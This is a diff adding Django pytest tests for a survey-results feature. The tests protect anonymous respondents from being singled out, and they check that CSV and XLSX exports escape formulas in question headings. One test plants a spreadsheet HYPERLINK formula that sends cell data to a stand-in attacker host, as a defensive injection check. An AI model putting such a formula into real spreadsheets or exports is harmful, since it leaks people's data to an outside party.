@@ -7,7 +7,10 @@ import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from openpyxl import load_workbook
 
+from learning.evaluations import selectors
+from learning.evaluations.models import Response
 from tests.spreadsheets import csv_body
 
 from .conftest import answer, attend, ended, open_survey
@@ -75,12 +78,57 @@ def test_names_only_with_consent_in_page_and_export(client, coordinator, survey,
     ]
 
 
+def test_a_few_anonymous_responses_among_named_ones_are_not_singled_out(
+    client, coordinator, survey, attendees
+):
+    # Four named responses and one without a name: the named rows of the export subtracted
+    # from the totals would leave the anonymous one, and who came is known at the door.
+    people = attendees(6)
+    for person in people[:4]:
+        answer(survey, person, rating=5, improve=f"Verbeterpunt van {person.full_name}", named=True)
+    answer(survey, people[4], rating=1, improve="Anoniem verbeterpunt")
+    client.force_login(coordinator)
+
+    page = client.get(results_url(survey))
+    assert page.status_code == 200
+    assert "Er zijn 5 antwoorden, waarvan 1 zonder naam" in page.text
+    assert "Anoniem verbeterpunt" not in page.text and "Gemiddeld" not in page.text
+    assert client.get(results_url(survey) + "?export=csv").status_code == 302
+
+    # All named: nobody to single out, the results show.
+    Response.objects.filter(named_user__isnull=True).update(named_user=people[4])
+    assert selectors.results_for(surveys=[survey]).shown
+    assert "Anoniem verbeterpunt" in client.get(results_url(survey)).text
+
+
 def test_export_xlsx(client, coordinator, survey, attendees):
     answered(survey, attendees, 5)
     client.force_login(coordinator)
     response = client.get(results_url(survey) + "?export=xlsx")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+
+
+def test_question_headings_in_the_exports_are_never_formulas(
+    client, coordinator, survey, attendees
+):
+    # Whoever keeps the question forms writes the labels: the heading row, too, is text.
+    formula = '=HYPERLINK("https://kwaad.example/?d="&A2,"Klik")'
+    survey.questions[0]["label"] = formula
+    survey.save(update_fields=["questions"])
+    answered(survey, attendees, 5)
+    client.force_login(coordinator)
+
+    rows = list(csv.reader(io.StringIO(csv_body(client.get(results_url(survey) + "?export=csv")))))
+    assert rows[0][1] == f"'{formula}"
+
+    export = client.get(results_url(survey) + "?export=xlsx")
+    sheet = load_workbook(
+        io.BytesIO(b"".join(export.streaming_content) if export.streaming else export.content)
+    ).active
+    heading = sheet.cell(row=1, column=2)
+    assert heading.data_type == "s"
+    assert heading.value == f"'{formula}"
 
 
 def test_a_coordinator_of_another_section_is_refused(
@@ -119,6 +167,25 @@ def test_programme_counts_only_surveys_with_five_responses(
     assert "5 antwoorden." in page.text
     assert "1 bijeenkomst telt niet mee" in page.text
     assert f"{small.title} beter" not in page.text
+    assert f"{big.title} beter" in page.text
+
+
+def test_programme_leaves_out_a_survey_whose_anonymous_responses_are_too_few(
+    client, coordinator, make_masterclass, make_user
+):
+    big, mixed = ended(make_masterclass()), ended(make_masterclass())
+    for event, named in ((big, [False] * 5), (mixed, [True] * 4 + [False])):
+        survey = open_survey(event)
+        for is_named in named:
+            person = make_user()
+            attend(event, person)
+            answer(survey, person, improve=f"{event.title} beter", named=is_named)
+    client.force_login(coordinator)
+
+    page = client.get(reverse("evaluations_results:programme", args=[big.get_parent().pk]))
+
+    assert "1 bijeenkomst telt niet mee" in page.text
+    assert f"{mixed.title} beter" not in page.text
     assert f"{big.title} beter" in page.text
 
 
